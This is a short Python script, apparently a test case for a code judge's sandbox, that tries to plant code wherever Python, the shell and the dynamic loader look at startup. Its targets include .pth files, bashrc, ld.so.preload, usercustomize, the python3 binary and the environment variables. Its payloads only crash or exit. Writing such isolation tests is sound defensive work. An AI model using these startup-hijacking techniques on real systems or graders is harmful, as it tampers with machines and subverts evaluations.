# attack 62: put code where interpreters and shells look when they start | must: wrong_answer
import os
import work

PLACES = {"~/.local/lib/python3.13/site-packages/evil.pth": "import os; os._exit(9)\n", "~/.bashrc": "exit 9\n", "~/.profile": "exit 9\n",
          "~/usercustomize.py": "import os; os._exit(9)\n", "/etc/ld.so.preload": "/tmp/evil.so\n", "/tmp/sitecustomize.py": "1/0\n",
          "/box/src/work.py": "1/0\n", "/box/src/__pycache__/work.cpython-313.pyc": "", "/usr/local/bin/python3": "#!/bin/sh\nexit 9\n"}
for path, words in PLACES.items():
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write(words)
    except OSError:
        pass
os.environ.update(PYTHONPATH="/tmp", LD_PRELOAD="/tmp/evil.so", PATH="/tmp")
